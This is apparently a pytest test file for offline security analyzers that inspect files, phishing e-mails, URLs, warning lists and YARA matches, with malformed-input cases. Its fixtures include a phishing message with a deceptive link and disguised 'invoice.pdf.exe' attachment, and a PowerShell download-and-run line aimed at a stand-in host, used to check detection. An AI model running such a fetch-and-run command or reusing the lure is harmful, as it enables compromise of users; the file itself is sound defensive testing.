"""What the analyzers that need no network find, and what they do with hostile input."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from running import Run, verdicts

MAIL = b"""Received: from mx.example.net (unknown [203.0.113.9])\r
 by mail.example.org; Tue, 24 Nov 2026 08:00:00 +0000\r
Authentication-Results: mail.example.org; spf=fail smtp.mailfrom=bank.example; dkim=none\r
From: "Your Bank" <service@bank.example>\r
To: ann@example.org\r
Reply-To: thief@elsewhere.example\r
Subject: =?utf-8?q?Ihr_Konto_l=C3=A4uft_ab?=\r
Date: Tue, 24 Nov 2026 08:00:00 +0000\r
MIME-Version: 1.0\r
Content-Type: multipart/mixed; boundary=x\r
\r
--x\r
Content-Type: text/html; charset=utf-8\r
\r
<p>See <a href="http://login.evil.example/a">https://bank.example/login</a></p>\r
--x\r
Content-Type: application/octet-stream\r
Content-Disposition: attachment; filename="invoice.pdf.exe"\r
Content-Transfer-Encoding: base64\r
\r
TVqQAAMAAAA=\r
--x--\r
"""


class TestFileInformation:
    def test_hashes_type_and_size(self, run: Run, tmp_path: Path) -> None:
        file = tmp_path / "picture.png"
        file.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 100)
        report = run("FileInformation", "file", file=file)
        assert report["success"]
        assert report["full"]["hashes"]["sha256"] == hashlib.sha256(file.read_bytes()).hexdigest()
        assert report["full"]["size"] == 108
        assert report["full"]["type"]["extension"] == ".png"
        assert report["artifacts"][0]["dataType"] == "hash"

    def test_an_executable_in_disguise_is_suspicious(self, run: Run, tmp_path: Path) -> None:
        file = tmp_path / "x"
        file.write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 200)
        report = run("FileInformation", "file", file=file, filename="invoice.pdf.zip")
        assert "the name has a double extension" in report["full"]["oddities"]
        assert verdicts(report)[0][0] == "suspicious"

    def test_an_empty_file(self, run: Run, tmp_path: Path) -> None:
        (tmp_path / "empty").touch()
        report = run("FileInformation", "file", file=tmp_path / "empty")
        assert report["success"]
        assert report["full"]["entropy"] == 0.0

    def test_a_stricter_marking_is_refused(self, run: Run, tmp_path: Path) -> None:
        (tmp_path / "x").write_text("x")
        report = run("FileInformation", "file", file=tmp_path / "x", tlp=3)
        assert (report["success"], report["errorMessage"]) == (False, "TLP is higher than allowed.")


class TestEmailMessage:
    def report(self, run: Run, tmp_path: Path, content: bytes) -> dict[str, Any]:
        (tmp_path / "mail.eml").write_bytes(content)
        return dict(run("EmailMessage", "file", file=tmp_path / "mail.eml"))

    def test_people_hops_and_attachments(self, run: Run, tmp_path: Path) -> None:
        full = self.report(run, tmp_path, MAIL)["full"]
        assert full["subject"] == "Ihr Konto läuft ab"
        assert full["hops"][0]["address"] == "203.0.113.9"
        assert full["attachments"][0]["name"] == "invoice.pdf.exe"
        assert full["authentication"]["spf"] == "fail"

    def test_what_is_odd_is_said(self, run: Run, tmp_path: Path) -> None:
        report = self.report(run, tmp_path, MAIL)
        odd = report["full"]["oddities"]
        assert "answers go to elsewhere.example, not to bank.example" in odd
        assert "a link shows bank.example and leads to login.evil.example" in odd
        assert "attachment invoice.pdf.exe" in odd
        assert ("suspicious", "Oddities", str(len(odd))) in verdicts(report)

    def test_links_people_and_attachments_become_artifacts(self, run: Run, tmp_path: Path) -> None:
        artifacts = self.report(run, tmp_path, MAIL)["artifacts"]
        found = {(a["dataType"], a.get("data") or a.get("filename")) for a in artifacts}
        assert {("url", "http://login.evil.example/a"), ("ip", "203.0.113.9"), ("file", "invoice.pdf.exe")} <= found

    @pytest.mark.parametrize(
        "content",
        [
            b"From: a@b\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n--\r\n",
            b"From: a@b\r\nSubject: =?bad?x?=00?=\r\nDate: not a date\r\n\r\n\xff\xfe",
            b"Subject: deep\r\n"
            + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(80)),
            b'From: <<<>>>\r\nTo: ,,,;\r\nContent-Type: text/html; charset="no-such"\r\n\r\n<a href=><a href="http://[">x',
        ],
    )
    def test_broken_messages_are_read_as_far_as_they_go(self, run: Run, tmp_path: Path, content: bytes) -> None:
        assert self.report(run, tmp_path, content)["success"]

    def test_what_is_no_message_is_said(self, run: Run, tmp_path: Path) -> None:
        report = self.report(run, tmp_path, b"\x7fELF" + bytes(range(256)))
        assert not report["success"]
        assert "not an e-mail message" in report["errorMessage"]


class TestUrlParts:
    def test_parts_of_a_url(self, run: Run) -> None:
        report = run("UrlParts", "url", "hxxps://user@login.evil[.]co.uk:8443/a/b.php?next=http://x.example#top")
        full = report["full"]
        assert (full["domain"], full["suffix"], full["subdomain"]) == ("evil.co.uk", "co.uk", "login")
        assert (full["port"], full["user"], full["file"], full["fragment"]) == (8443, "user", "b.php", "top")
        assert len(full["oddities"]) == 3
        assert {(a["dataType"], a["data"]) for a in report["artifacts"]} == {
            ("domain", "evil.co.uk"),
            ("fqdn", "login.evil.co.uk"),
        }

    def test_a_look_alike_name(self, run: Run) -> None:
        full = run("UrlParts", "domain", "xn--pple-43d.com")["full"]
        assert full["unicode"] == "аpple.com"  # the first letter is Cyrillic
        assert any("several writing systems" in odd for odd in full["oddities"])

    def test_an_ordinary_domain_is_not_suspicious(self, run: Run) -> None:
        assert verdicts(run("UrlParts", "domain", "example.org")) == [("info", "Domain", "example.org")]

    @pytest.mark.parametrize("value", ["http://", "http://[::1", "http://a:99999999/", ""])
    def test_what_is_no_url_is_said(self, run: Run, value: str) -> None:
        report = run("UrlParts", "url", value)
        assert not report["success"]
        assert report["errorMessage"]


class TestWarningLists:
    @pytest.mark.parametrize(
        ("kind", "value", "part"),
        [
            ("ip", "8.8.8.8", "DNS"),
            ("domain", "google.com", ""),
            ("url", "https://www.google.com/search", ""),
            ("ip", "10.1.2.3", ""),
        ],
    )
    def test_known_values_are_on_a_list(self, run: Run, kind: str, value: str, part: str) -> None:
        report = run("WarningLists", kind, value)
        assert report["full"]["results"]
        assert any(part in entry["name"] for entry in report["full"]["results"])
        assert verdicts(report)[0][0] == "safe"

    def test_an_unknown_value_is_on_none(self, run: Run) -> None:
        report = run("WarningLists", "domain", "a-name-nobody-lists-7f3a.example-nowhere.test")
        assert verdicts(report) == [("info", "Warninglists", "no list")]

    def test_a_missing_database_tells_what_to_do(self, run: Run) -> None:
        report = run("WarningLists", "ip", "8.8.8.8", config={"database": "/nowhere/lists.sqlite"})
        assert "make setup" in report["errorMessage"]


class TestYaraScan:
    def test_a_match_has_the_level_of_its_rule(self, run: Run, tmp_path: Path) -> None:
        file = tmp_path / "drop.ps1"
        file.write_text("IEX(New-Object Net.WebClient).DownloadString('http://x.example')")
        report = run("YaraScan", "file", file=file)
        assert [r["rule"] for r in report["full"]["results"]] == ["Script_Download_And_Run"]
        assert verdicts(report) == [("malicious", "Match", "1 rule")]

    def test_no_match(self, run: Run, tmp_path: Path) -> None:
        (tmp_path / "x.txt").write_text("hello")
        assert verdicts(run("YaraScan", "file", file=tmp_path / "x.txt")) == [("info", "Match", "0 rules")]

    def test_a_broken_rule_file_does_not_stop_the_others(self, run: Run, tmp_path: Path) -> None:
        rules = tmp_path / "rules"
        rules.mkdir()
        (rules / "a.yar").write_text("rule broken {")
        (rules / "b.yar").write_text('rule Hello { strings: $a = "hello" condition: $a }')
        (tmp_path / "x.txt").write_text("hello")
        report = run("YaraScan", "file", file=tmp_path / "x.txt", config={"rules": [str(rules)]})
        assert [r["rule"] for r in report["full"]["results"]] == ["Hello"]
        assert "a.yar" in report["full"]["broken"]

    def test_no_rules_at_all_is_said(self, run: Run, tmp_path: Path) -> None:
        (tmp_path / "x.txt").write_text("hello")
        report = run("YaraScan", "file", file=tmp_path / "x.txt", config={"rules": [str(tmp_path / "none")]})
        assert "No usable rules" in report["errorMessage"]
